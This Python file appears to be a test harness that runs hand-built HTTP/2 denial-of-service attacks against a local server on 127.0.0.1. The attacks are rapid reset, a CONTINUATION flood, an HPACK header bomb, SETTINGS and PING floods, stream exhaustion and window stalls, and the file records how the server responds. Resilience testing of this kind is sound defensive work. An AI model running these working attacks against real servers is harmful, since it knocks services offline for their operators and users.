#!/usr/bin/python3
"""h2_attack.py - hostile HTTP/2 clients for h2_attacks.test.js.

Usage: h2_attack.py ATTACK PORT PATH SECONDS

Speaks h2c with prior knowledge to 127.0.0.1:PORT, writing frames by
hand (Debian's python3-hpack encodes header blocks) so that it can send
what a well-behaved library would refuse to. Each attack runs until
SECONDS pass or the server closes the connection, then prints one JSON
object: what was sent and what came back (GOAWAY and its error code,
RST_STREAM counts by error code, bytes of DATA received, whether the
connection was closed). Every attack is bounded in time and bytes.
"""
import json
import select
import socket
import struct
import sys
import time

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = (
    0x0, 0x1, 0x3, 0x4, 0x6, 0x7, 0x8, 0x9)
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
CANCEL = 0x8


def frame(ftype, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + \
        struct.pack(">I", stream & 0x7FFFFFFF) + payload


class Conn:
    def __init__(self, port, settings=b""):
        self.sock = socket.create_connection(("127.0.0.1", port))
        self.sock.setblocking(False)
        self.inbuf = b""
        self.result = {"sent_frames": 0, "sent_bytes": 0, "closed": False,
                       "goaway": None, "rst": {}, "data_bytes": 0,
                       "headers": 0}
        self.enc = hpack.Encoder()
        self.send_all(PREFACE + frame(SETTINGS, 0, 0, settings))

    def send_all(self, data, deadline=None):
        """Sends data unless the socket stays full past deadline; returns
        False when the server closed or would not take it."""
        view = memoryview(data)
        while view:
            if self.result["closed"]:
                return False
            try:
                n = self.sock.send(view)
                view = view[n:]
                self.result["sent_bytes"] += n
            except BlockingIOError:
                if deadline is not None and time.time() > deadline:
                    return False
                self.read(0.01)
            except OSError:
                self.result["closed"] = True
                return False
        return True

    def send(self, ftype, flags, stream, payload=b"", deadline=None):
        self.result["sent_frames"] += 1
        return self.send_all(frame(ftype, flags, stream, payload), deadline)

    def read(self, timeout):
        """Reads what arrived within timeout and parses whole frames."""
        try:
            ready, _, _ = select.select([self.sock], [], [], timeout)
            if not ready:
                return
            chunk = self.sock.recv(1 << 20)
        except (BlockingIOError, InterruptedError):
            return
        except OSError:
            self.result["closed"] = True
            return
        if not chunk:
            self.result["closed"] = True
            return
        buf = self.inbuf + chunk
        at = 0
        while len(buf) - at >= 9:
            length = int.from_bytes(buf[at:at + 3], "big")
            if len(buf) - at < 9 + length:
                break
            ftype, flags = buf[at + 3], buf[at + 4]
            stream = int.from_bytes(buf[at + 5:at + 9], "big") & 0x7FFFFFFF
            if ftype == DATA:
                self.result["data_bytes"] += length
            else:
                self.on_frame(ftype, flags, stream, buf[at + 9:at + 9 + length])
            at += 9 + length
        self.inbuf = buf[at:]

    def on_frame(self, ftype, flags, stream, payload):
        r = self.result
        if ftype == GOAWAY:
            r["goaway"] = int.from_bytes(payload[4:8], "big")
        elif ftype == RST_STREAM:
            code = str(int.from_bytes(payload[:4], "big"))
            r["rst"][code] = r["rst"].get(code, 0) + 1
        elif ftype == HEADERS:
            r["headers"] += 1

    def request_block(self, path, extra=()):
        return self.enc.encode([(":method", "GET"), (":scheme", "http"),
                                (":authority", "sluice"), (":path", path)]
                               + list(extra))

    def drain(self, seconds):
        end = time.time() + seconds
        while time.time() < end and not self.result["closed"]:
            self.read(0.05)


def rapid_reset(c, path, until):
    sid = 1
    while time.time() < until and not c.result["closed"]:
        c.send(HEADERS, END_HEADERS | END_STREAM, sid, c.request_block(path), until)
        c.send(RST_STREAM, 0, sid, struct.pack(">I", CANCEL), until)
        sid += 2
        if sid % 64 == 1:
            c.read(0)
    c.result["streams"] = sid // 2


def continuation_flood(c, path, until):
    c.send(HEADERS, 0, 1, c.request_block(path), until)
    junk = hpack.Encoder().encode([("x-junk", "j" * 1000)])
    n = 0
    while time.time() < until and not c.result["closed"]:
        if not c.send(CONTINUATION, 0, 1, junk, until):
            break
        n += 1
        if n % 16 == 0:
            c.read(0)
    c.result["continuations"] = n


def hpack_bomb(c, path, until):
    """One 4000-byte header in the dynamic table, then header blocks that
    reference it thousands of times (1 byte each: 4 KB decoded per byte)."""
    sid = 1
    big = ("x-bomb", "b" * 3950)
    first = c.request_block(path, [big])
    c.send(HEADERS, END_HEADERS | END_STREAM, sid, first, until)
    index = None
    # The entry just added is the newest dynamic entry: index 62.
    index = bytes([0x80 | 62])
    while time.time() < until and not c.result["closed"]:
        sid += 2
        block = c.request_block(path) + index * 4000
        if not c.send(HEADERS, END_HEADERS | END_STREAM, sid, block, until):
            break
        c.read(0.01)
    c.result["streams"] = (sid + 1) // 2
    del index


def settings_flood(c, path, until):
    n = 0
    payload = struct.pack(">HI", 0x4, 65535)  # INITIAL_WINDOW_SIZE
    while time.time() < until and not c.result["closed"]:
        if not c.send(SETTINGS, 0, 0, payload, until):
            break
        n += 1
    c.result["settings"] = n


def ping_flood(c, path, until):
    n = 0
    while time.time() < until and not c.result["closed"]:
        if not c.send(PING, 0, 0, struct.pack(">Q", n), until):
            break
        n += 1
    c.result["pings"] = n


def too_many_streams(c, path, until):
    c.drain(0.2)  # let the server's SETTINGS arrive (we ACK below)
    c.send(SETTINGS, ACK, 0)
    for i in range(200):
        c.send(HEADERS, END_HEADERS | END_STREAM, 1 + 2 * i,
               c.request_block(path), until)
    while time.time() < until and not c.result["closed"]:
        c.read(0.05)


def zero_window(c, path, until):
    """INITIAL_WINDOW_SIZE 0 and never a WINDOW_UPDATE: the server may
    send nothing on any stream, ever."""
    for i in range(5):
        c.send(HEADERS, END_HEADERS | END_STREAM, 1 + 2 * i,
               c.request_block(path), until)
    while time.time() < until and not c.result["closed"]:
        c.read(0.05)


def stalled_reader(c, path, until):
    """Windows wide open, five streams, then the socket is never read
    until the end: the whole connection stops draining."""
    c.send(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0x7FFFFFFF - 65535))
    for i in range(5):
        c.send(HEADERS, END_HEADERS | END_STREAM, 1 + 2 * i,
               c.request_block(path), until)
    time.sleep(max(0.0, until - time.time()))
    # What the kernel and sluice had queued (a few MB), then the resets.
    end = time.time() + 15
    while time.time() < end and not c.result["closed"] and \
            sum(c.result["rst"].values()) < 5:
        c.read(0.05)


ATTACKS = {
    "rapid_reset": (rapid_reset, b""),
    "continuation": (continuation_flood, b""),
    "hpack_bomb": (hpack_bomb, b""),
    "settings_flood": (settings_flood, b""),
    "ping_flood": (ping_flood, b""),
    "too_many_streams": (too_many_streams, b""),
    "zero_window": (zero_window, struct.pack(">HI", 0x4, 0)),
    "stalled_reader": (stalled_reader, struct.pack(">HI", 0x4, 0x7FFFFFFF)),
}


def main():
    name, port, path, seconds = sys.argv[1], int(sys.argv[2]), sys.argv[3], float(sys.argv[4])
    attack, settings = ATTACKS[name]
    c = Conn(port, settings)
    start = time.time()
    attack(c, path, start + seconds)
    c.result["seconds"] = round(time.time() - start, 2)
    c.drain(0.3)
    c.sock.close()
    print(json.dumps(c.result))


if __name__ == "__main__":
    main()
